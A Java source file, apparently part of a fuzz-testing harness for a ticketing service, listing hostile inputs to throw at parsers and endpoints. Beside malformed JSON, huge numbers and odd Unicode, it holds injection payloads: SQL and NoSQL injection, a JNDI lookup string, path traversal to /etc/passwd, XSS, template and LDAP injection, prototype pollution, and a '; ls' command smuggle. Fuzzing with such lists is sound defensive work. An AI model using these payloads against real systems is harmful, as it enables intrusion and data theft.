package dev.boxoffice.bench.fuzz;

import java.util.List;
import java.util.random.RandomGenerator;

/** What programs trip over. */
final class Hostile {
    /** JSON texts, not all of them JSON, to stand where a value is expected. */
    static final List<String> JSON = List.of(
            "null",
            "true",
            "false",
            "0",
            "-0",
            "-1",
            "1",
            "1.5",
            "0.1e-9",
            "1e400",
            "-1e400",
            "1e-400",
            "1e999999999",
            "1e-99999999",
            "-1e-1000000",
            "9".repeat(60_000),
            "0." + "0".repeat(60_000) + "1",
            "[" + "1,".repeat(30_000) + "1]",
            "{" + "\"a\":1,".repeat(9_000) + "\"b\":1}",
            "\"" + "a".repeat(60_000) + "\"",
            "NaN",
            "Infinity",
            "-Infinity",
            "2147483647",
            "2147483648",
            "-2147483649",
            "9007199254740993",
            "9223372036854775807",
            "9223372036854775808",
            "-9223372036854775809",
            "1" + "0".repeat(300),
            "9".repeat(2_000),
            "0." + "3".repeat(900),
            "00012",
            "0x1F",
            "+1",
            ".5",
            "5.",
            "\"\"",
            "\" \"",
            "\"\\t\\n\\r\"",
            "\"5\"",
            "\"null\"",
            "\"true\"",
            "\"\\u0000\"",
            "\"a\\u0000b\"",
            "\"\\ud800\"",
            "\"\\udfff\\ud800 halves\"",
            "\"\\uD83C\\uDFAB\"",
            "\"\\u202e drawkcab\"",
            "\"\\ufeff\\u200b\\u2028\\u2029\"",
            "\"e\\u0301\\u0301\\u0301\\u0301\"",
            "\"\\u\"",
            "\"\\ud8zz\"",
            "\"\\x41\"",
            "'single'",
            "unquoted",
            "[]",
            "{}",
            "[[]]",
            "[null]",
            "[1,\"a\",{}]",
            "{\"$gt\":\"\"}",
            "{\"$ne\":null}",
            "{\"$where\":\"sleep(1000)\"}",
            "{\"$regex\":\"(a+)+$\"}",
            "{\"$oid\":\"000000000000000000000000\"}",
            "{\"$date\":0}",
            "{\"$numberLong\":\"1\"}",
            "{\"a.b\":{\"c$d\":1},\"$set\":{}}",
            "{\"__proto__\":{\"admin\":true}}",
            "{\"@class\":\"javax.naming.InitialContext\"}",
            "[" + "1,".repeat(2_000) + "1]");

    /** Numbers of few characters and many digits, or of many characters. */
    static final List<String> NUMBERS = List.of(
            "1e-99999999",
            "1e-1000000",
            "-1e-99999999",
            "0e-2147483647",
            "1e2147483647",
            "1e99999999",
            "1e99999999999999999999",
            "1" + "0".repeat(40) + "e-40",
            "9".repeat(280),
            "0." + "0".repeat(280) + "1");

    /** Texts that are written as they are. */
    static final List<String> TEXTS = List.of(
            "",
            " ",
            "0",
            "-1",
            "1e400",
            "1e-99999999",
            "1e-1000000",
            "0e-2147483647",
            "1e2147483647",
            "0." + "0".repeat(280) + "1",
            "2030-01-01T00:00:00." + "1".repeat(200) + "Z",
            "99999999999999999999",
            "NaN",
            "null",
            "undefined",
            "true",
            "a\u0000b",
            "line\r\nbreak",
            "\ud83c\udfab",
            "\ud800",
            "\u202egnp.exe",
            "\ufeffbom",
            "Ａｌｌ\u3000wide",
            "' OR '1'='1",
            "\"; drop table tickets; --",
            "{\"$gt\":\"\"}",
            "$where",
            "a.b.c",
            "__proto__",
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "%2e%2e%2f",
            "%00",
            "%",
            "${jndi:ldap://example.com/a}",
            "#{7*7}{{7*7}}<%=7*7%>",
            "<script>alert(1)</script>",
            "(a+)+$",
            "[",
            "\\",
            "*",
            "*)(uid=*",
            "; ls",
            "2026-02-30T25:61:61Z",
            "+1000000000-12-31T23:59:59.999999999Z",
            "-999999999-01-01T00:00:00Z",
            "0000-00-00",
            "9999-12-31T23:59:59+18:00",
            "000000000000000000000000",
            "ffffffffffffffffffffffff",
            "FFFFFFFFFFFFFFFFFFFFFFFF",
            "00000000000000000000000",
            "00000000-0000-0000-0000-000000000000",
            "@ownTicket@",
            "@ownTicket@\u0000",
            "@victimOrder@",
            "events.>",
            "x".repeat(63),
            "x".repeat(64),
            "x".repeat(65),
            "x".repeat(256),
            "\u00e9".repeat(2_001),
            "x".repeat(20_000));

    private Hostile() {}

    static <T> T one(List<T> of, RandomGenerator random) {
        return of.get(random.nextInt(of.size()));
    }

    /** A JSON string of any text, with only those escapes that JSON must have. */
    static String json(String text) {
        StringBuilder json = new StringBuilder("\"");
        for (int i = 0; i < text.length(); i++) {
            char one = text.charAt(i);
            if (one == '"' || one == '\\') {
                json.append('\\').append(one);
            } else if (one < ' ' || Character.isSurrogate(one)) {
                json.append("\\u%04x".formatted((int) one));
            } else {
                json.append(one);
            }
        }
        return json.append('"').toString();
    }

    /** Arrays or objects within each other. */
    static String nested(RandomGenerator random) {
        int depth = one(List.of(15, 16, 17, 999, 1_001, 20_000), random);
        return switch (random.nextInt(3)) {
            case 0 -> "[".repeat(depth) + "]".repeat(depth);
            case 1 -> "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
            default -> "[".repeat(depth);
        };
    }
}
